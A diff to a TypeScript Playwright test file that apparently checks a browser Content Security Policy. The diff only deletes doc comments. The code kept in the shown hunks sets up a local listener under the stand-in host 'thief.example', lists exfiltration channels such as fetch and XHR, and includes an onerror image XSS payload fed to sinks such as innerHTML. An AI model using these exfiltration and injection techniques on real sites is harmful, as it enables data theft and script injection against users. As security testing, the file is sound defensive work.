@@ -11,7 +11,6 @@ import { expect, nightly, test as base } from './support/test.ts';
 /** Only this browser resolves the name, to the address of the listener. */
 const thief = 'thief.example';
 
-/** An injected script sends its data to this server. */
 async function startListener() {
   const heard = new Set<string>();
   const server = createServer((request, response) => {
@@ -45,7 +44,6 @@ interface Fixtures {
 
 interface Visit {
   context: BrowserContext;
-  /** Each blocked request or script violated a directive. */
   violations: string[];
   ran: string[];
 }
@@ -108,7 +106,6 @@ function addElement(page: Page, tag: string, attributes: Record<string, string>)
   );
 }
 
-/** An injected script could send data to another host in these ways. */
 const ways: Record<string, (page: Page, url: string) => Promise<unknown>> = {
   fetch: (page, url) => page.evaluate((to) => fetch(to, { mode: 'no-cors' }), url),
   XHR: (page, url) =>
@@ -148,7 +145,6 @@ const shutBy: Record<string, string> = {
   prefetch: 'default-src',
 };
 
-/** Each way is over before the next one is tried. */
 async function tryAll(page: Page, url: string, isOver: (name: string) => Promise<void>) {
   for (const [name, leave] of Object.entries(ways)) {
     await leave(page, `${url}/${name}`).catch(() => undefined);
@@ -226,7 +222,6 @@ test('a script can contact its own host through WebRTC', nightly, async ({ visit
 const script = "ran('injected')";
 const markup = `<img src="/none" onerror="${script}">`;
 
-/** A text could run as script in these ways. */
 const sinks: Record<string, (page: Page) => Promise<unknown>> = {
   innerHTML: (page) => page.evaluate((text) => (document.body.innerHTML = text), markup),
   outerHTML: (page) =>
